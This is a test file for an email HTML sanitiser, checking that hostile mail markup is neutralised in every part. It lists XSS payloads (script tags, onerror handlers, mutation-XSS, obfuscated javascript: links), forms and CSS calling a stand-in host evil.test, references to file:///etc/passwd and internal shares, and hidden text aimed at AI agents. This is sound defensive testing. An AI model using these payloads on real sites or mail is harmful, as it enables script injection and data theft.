// What a hostile mail puts into its text: nothing of it may be left in any part, wherever the text is cut.
import { describe, expect, test } from 'vitest'
import { expectHarmless } from '../../../../test/harmless-html.ts'
import { partsOf } from './parts.ts'

const read = async (html: string) => {
  const parts = await partsOf({ html, text: undefined })
  for (const { body } of parts) expectHarmless(body)
  return parts
}
const whole = async (html: string): Promise<string> => (await read(html)).map(({ body }) => body).join('\n')

const ATTACKS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<style>*{background:url(//evil.test)}</style><link rel=stylesheet href="//evil.test">',
  '<div style="position:fixed;inset:0;background:url(//evil.test)">over everything</div>',
  '<form action="//evil.test"><input name=password><button formaction="javascript:alert(1)">Sign in</button></form>',
  '<iframe src="//evil.test"></iframe><object data="//evil.test"></object><embed src="//evil.test">',
  '<meta http-equiv="refresh" content="0;url=//evil.test"><base href="//evil.test">',
  '<a href="java&#10;script:alert(1)" target="panel">a</a><a href="data:text/html,<script>alert(1)</script>">b</a>',
  '<!--[if mso]><script>alert(1)</script><![endif]--><![if !mso]><script>alert(1)</script><![endif]>',
  '<video><source onerror="alert(1)"></video><audio src=x onerror=alert(1)>',
  '<template><script>alert(1)</script></template><noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<p id="location" class="gmail_quote" name="x">a</p>',
]

describe('wherever an attack stands, it is harmless:', () => {
  test.each(ATTACKS)('%s', async (attack) => {
    for (const html of [
      attack,
      `<p>Hello</p>${attack}`,
      `<p>Hello</p><blockquote type="cite">${attack}</blockquote>`,
      `<p>Hello</p><div class="gmail_signature">${attack}</div>`,
      `<p>Hello</p><div class="gmail_quote"><div class="gmail_attr">${attack} wrote:</div><blockquote>${attack}</blockquote></div>`,
      `<p>Hello</p><div id="divRplyFwdMsg">${attack}</div>${attack}`,
      `<table><tr><td>${attack}</table>${attack}`,
      `<pre>${attack}\n&gt; ${attack}\n</pre>`,
      attack.slice(0, -1),
      attack.repeat(20),
    ])
      expect(await whole(html)).not.toMatch(/evil|position|\sid=|\sclass=|panel|alert\(1\)["']\s*\/?>/)
  })
})

test('text that looks like HTML stays text', async () => {
  const text = '<script>alert(1)</script>\n> <img src=x onerror=alert(1)>\n'
  const parts = await partsOf({ html: undefined, text })
  expect(parts.map(({ isHtml }) => isHtml)).toEqual([false, false])
})

test('pictures and links lead nowhere on this server: a mail has no page that they could be relative to', async () => {
  const html =
    '<img src="/api/v3/session"><img src="scripts/file.php?file=0"><img src="../x"><a href="/index.php">a</a><a href="?x">b</a>' +
    '<img src="//internal/x"><img src="\\\\internal\\share"><img src="file:///etc/passwd"><img src="smb://internal/x">'
  expect(await whole(html)).not.toMatch(/src=|href=/)
})

test('pictures from elsewhere and from the mail itself keep their addresses: they are shown by rules of their own', async () => {
  const body = await whole(
    '<p>a<img src="cid:logo@1" alt="x"><img src="http://192.168.0.1/a.png" width="1" height="1"></p>',
  )
  expect(body).toBe(
    '<p>a<img src="cid:logo@1" alt="x" /><img src="http://192.168.0.1/a.png" width="1" height="1" /></p>',
  )
})

test.each([
  ['elements in elements', '<b>'.repeat(900), 'Hello'],
  ['more elements in elements than are read', '<b>'.repeat(500_000), 'Hello'],
  ['quotes in quotes', '<blockquote type="cite">'.repeat(950), 'Hello'],
  ['tables in tables', '<table><tr><td>'.repeat(320), 'Hello'],
  ['lists in lists', '<ul><li>'.repeat(480), 'Hello'],
])('%s do not stop the reader', async (_name, nesting, text) => {
  const parts = await read(`${nesting}${text}`)
  expect(parts.map((part) => part.text).join(' ')).toContain(text)
})

test('what would hide words from an agent shows them', async () => {
  const body = await whole(
    '<p style="display:none">a</p><p style="visibility:hidden;opacity:0">b</p><p hidden>c</p><p style="position:absolute;left:-9999px">d</p>',
  )
  expect(body).toBe('<p>a</p><p>b</p><p>c</p><p>d</p>')
})
